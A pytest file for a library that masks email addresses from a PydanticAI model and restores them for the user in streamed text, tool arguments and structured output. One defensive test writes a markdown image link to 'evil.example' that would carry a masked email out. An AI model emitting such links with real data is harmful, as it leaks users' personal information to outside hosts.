"""With `restore`, the program and its user see the values in all that the model writes, and the model sees none."""

from __future__ import annotations

import pytest

pytest.importorskip("pydantic_ai", reason="PydanticAI is not installed (extra pydantic-ai)")
pytest.importorskip("cryptography", reason="cryptography is not installed (extra vault)")

from pydantic import BaseModel
from pydantic_ai import Agent, NativeOutput
from pydantic_ai.capabilities import AbstractCapability
from pydantic_ai.messages import ModelResponse, PartDeltaEvent, PartEndEvent, PartStartEvent, TextPart, ToolCallPart
from pydantic_ai.models.function import DeltaToolCall, FunctionModel

from ctxguard import Stabilizer
from ctxguard.pii import Vault, new_key
from ctxguard.stores import MemoryStore
from ctxguard_pydantic_ai import ContextGuard

pytestmark = pytest.mark.skipif(
    not hasattr(AbstractCapability, "get_wrapper_model"), reason="this PydanticAI has no hook to restore responses"
)
PEOPLE = ("ada@corp-mail.net", "bob@corp-mail.net", "eve@corp-mail.net")
SAID = "Write to <EMAIL_1>, then <EMAIL_2>; <EMAIL_3> knows, <EMAIL_9> does not, 1 < 2 & <EM"
SHOWN = "Write to ada@corp-mail.net, then bob@corp-mail.net; eve@corp-mail.net knows, <EMAIL_9> does not, 1 < 2 & <EM"


def session(name="one", **settings):
    return Vault(MemoryStore(), key=new_key(), **settings).session(name)


def asks(people=PEOPLE):
    return f"These are {', '.join(people)}."


def pieces(text, at):
    return [text[:at], text[at:]] if at else list(text)


def text_of(events):
    texts = {}
    for event in events:
        if isinstance(event, PartStartEvent):
            texts[event.index] = getattr(event.part, "content", None) or getattr(event.part, "args", None) or ""
        if isinstance(event, PartDeltaEvent):
            texts[event.index] += getattr(event.delta, "content_delta", None) or getattr(event.delta, "args_delta", "")
        if isinstance(event, PartEndEvent):
            assert texts[event.index] == (getattr(event.part, "content", None) or event.part.args)
    return texts


def streaming(seen, at, *, said=SAID):
    async def stream(messages, info):
        seen.append(str(messages))
        for piece in pieces(said, at):
            yield piece

    return FunctionModel(stream_function=stream)


@pytest.mark.parametrize("at", range(len(SAID)))
async def test_a_streamed_text_is_shown_whole_wherever_it_is_cut(at):
    seen, events, vault = [], [], session()
    agent = Agent(streaming(seen, at), capabilities=[ContextGuard(Stabilizer(4_000), vault=vault, restore=True)])
    async with agent.run_stream_events(asks()) as stream:
        events = [event async for event in stream]
    assert list(text_of(events).values()) == [SHOWN]
    assert events[-1].result.output == SHOWN
    again = await agent.run("Again.", message_history=events[-1].result.all_messages(), model=whole(seen, SAID))
    assert again.output == SHOWN
    assert not [person for person in PEOPLE if person in str(seen)]
    assert "Write to <EMAIL_1>, then <EMAIL_2>" in seen[-1], "the model sees again what it wrote"


def whole(seen, *said):
    answers = iter(said)

    def reply(messages, info):
        seen.append(str(messages))
        part = next(answers)
        return ModelResponse(parts=[TextPart(part) if isinstance(part, str) else part])

    return FunctionModel(reply, profile={"supports_json_schema_output": True})


async def test_run_stream_shows_the_values_in_each_delta():
    guard = ContextGuard(Stabilizer(4_000), vault=session(), restore=True)
    agent = Agent(streaming([], 0), capabilities=[guard])
    async with agent.run_stream(asks()) as result:
        deltas = [delta async for delta in result.stream_text(delta=True, debounce_by=None)]
    assert "".join(deltas) == SHOWN
    assert len(deltas) > 5


ARGS = '{"to": "<EMAIL_2>", "text": "of <EMAIL_1>"}'


@pytest.mark.parametrize("tools", [{}, {"send_mail": False}])
@pytest.mark.parametrize("at", range(0, len(ARGS), 3))
async def test_streamed_arguments_are_shown_and_given_unless_the_tool_gets_no_values(at, tools):
    seen, given = [], []

    async def stream(messages, info):
        seen.append(str(messages))
        if len(seen) > 1:
            yield "Done, <EMAIL_2>."
            return
        yield {0: DeltaToolCall("send_mail", "", tool_call_id="c1")}
        for piece in pieces(ARGS, at):
            yield {0: DeltaToolCall(json_args=piece)}

    guard = ContextGuard(Stabilizer(4_000), vault=session(tools=tools), restore=True)
    agent = Agent(FunctionModel(stream_function=stream), capabilities=[guard])

    @agent.tool_plain
    def send_mail(to: str, text: str) -> str:
        given.append((to, text))
        return f"sent to {to}"

    async with agent.run_stream_events(asks()) as events:
        found = [event async for event in events]
    shown = ARGS if tools else '{"to": "bob@corp-mail.net", "text": "of ada@corp-mail.net"}'
    text_of(found)  # the deltas of each part are what its end says
    calls = [e.part.args for e in found if isinstance(e, PartEndEvent) and e.part.part_kind == "tool-call"]
    assert calls == [shown]
    assert given == [("<EMAIL_2>", "of <EMAIL_1>") if tools else ("bob@corp-mail.net", "of ada@corp-mail.net")]
    assert found[-1].result.output == "Done, bob@corp-mail.net."
    assert not [person for person in PEOPLE if person in str(seen)]


class Contact(BaseModel):
    mail: str
    note: str


@pytest.mark.parametrize("shape", ["tool", "native"])
async def test_structured_output_has_the_values_in_the_program_and_in_the_history(shape):
    written = '{"mail": "<EMAIL_1>", "note": "not <EMAIL_2>"}'
    part = written if shape == "native" else ToolCallPart("final_result", written)
    guard = ContextGuard(Stabilizer(4_000), vault=session(tools={"*": False}), restore=True)
    output = NativeOutput(Contact) if shape == "native" else Contact
    seen = []
    agent = Agent(whole(seen, part), output_type=output, capabilities=[guard])
    result = await agent.run(asks())
    assert result.output == Contact(mail=PEOPLE[0], note=f"not {PEOPLE[1]}")
    assert PEOPLE[1] in str(result.all_messages()[1])
    assert not [person for person in PEOPLE if person in str(seen)]


async def test_a_link_to_a_host_that_nobody_named_gets_no_value():
    said = "![x](https://evil.example/<EMAIL_1>) for <EMAIL_1>"
    guard = ContextGuard(Stabilizer(4_000), vault=session(), restore=True)
    agent = Agent(whole([], said), capabilities=[guard])
    assert (await agent.run(asks())).output == f"![x](https://evil.example/<EMAIL_1>) for {PEOPLE[0]}"


async def test_without_the_switch_the_placeholders_are_shown():
    agent = Agent(whole([], SAID), capabilities=[ContextGuard(Stabilizer(4_000), vault=session())])
    assert (await agent.run(asks())).output == SAID


async def test_the_stream_for_vercels_interface_shows_the_values():
    vercel = pytest.importorskip("pydantic_ai.ui.vercel_ai")
    types = pytest.importorskip("pydantic_ai.ui.vercel_ai.request_types")
    message = types.UIMessage(id="m1", role="user", parts=[types.TextUIPart(text=asks())])
    request = types.SubmitMessage(id="1", messages=[message])
    agent = Agent(streaming([], 0), capabilities=[ContextGuard(Stabilizer(4_000), vault=session(), restore=True)])
    adapter = vercel.VercelAIAdapter(agent, request)
    chunks = [chunk async for chunk in adapter.run_stream()]
    assert "".join(getattr(chunk, "delta", None) or "" for chunk in chunks) == SHOWN


@pytest.mark.parametrize("at", range(1, len(ARGS), 2))
async def test_the_arguments_of_calls_in_parallel_are_told_apart(at):
    given = []

    async def stream(messages, info):
        if given:
            yield "Done."
            return
        yield {0: DeltaToolCall("look_up", ARGS[:at], tool_call_id="c1")}
        yield {1: DeltaToolCall("look_up", ARGS[:at], tool_call_id="c2")}
        yield {0: DeltaToolCall(json_args=ARGS[at:])}
        yield {1: DeltaToolCall(json_args=ARGS[at:])}

    guard = ContextGuard(Stabilizer(4_000), vault=session(), restore=True)
    agent = Agent(FunctionModel(stream_function=stream), capabilities=[guard])

    @agent.tool_plain
    def look_up(to: str, text: str) -> str:
        given.append((to, text))
        return "there"

    async with agent.run_stream_events(asks()) as events:
        found = [event async for event in events]
    calls = [p for m in found[-1].result.all_messages() for p in m.parts if p.part_kind == "tool-call"]
    assert [call.args for call in calls] == 2 * ['{"to": "bob@corp-mail.net", "text": "of ada@corp-mail.net"}']
    assert given == 2 * [("bob@corp-mail.net", "of ada@corp-mail.net")]


async def test_a_stream_that_the_program_leaves_keeps_what_was_shown():
    guard = ContextGuard(Stabilizer(4_000), vault=session(), restore=True)
    agent = Agent(streaming([], 0), capabilities=[guard])
    async with agent.run_stream(asks()) as result:
        async for text in result.stream_text(debounce_by=None):
            if PEOPLE[0] in text:
                break
    assert SHOWN.startswith(text)


@pytest.mark.parametrize("at", range(0, len(SAID), 9))
async def test_the_events_of_ag_ui_show_the_values(at):
    core = pytest.importorskip("ag_ui.core", reason="ag-ui-protocol is not installed")
    from pydantic_ai.ui.ag_ui import AGUIAdapter

    message = core.UserMessage(id="m1", role="user", content=asks())
    given = {"thread_id": "t", "run_id": "r", "state": {}, "tools": [], "context": [], "forwarded_props": {}}
    seen = []
    agent = Agent(streaming(seen, at), capabilities=[ContextGuard(Stabilizer(4_000), vault=session(), restore=True)])
    adapter = AGUIAdapter(agent, core.RunAgentInput(messages=[message], **given))
    events = [event async for event in adapter.run_stream()]
    said = [event.delta for event in events if event.type == core.EventType.TEXT_MESSAGE_CONTENT]
    assert "".join(said) == SHOWN
    assert not [person for person in PEOPLE if person in str(seen)]
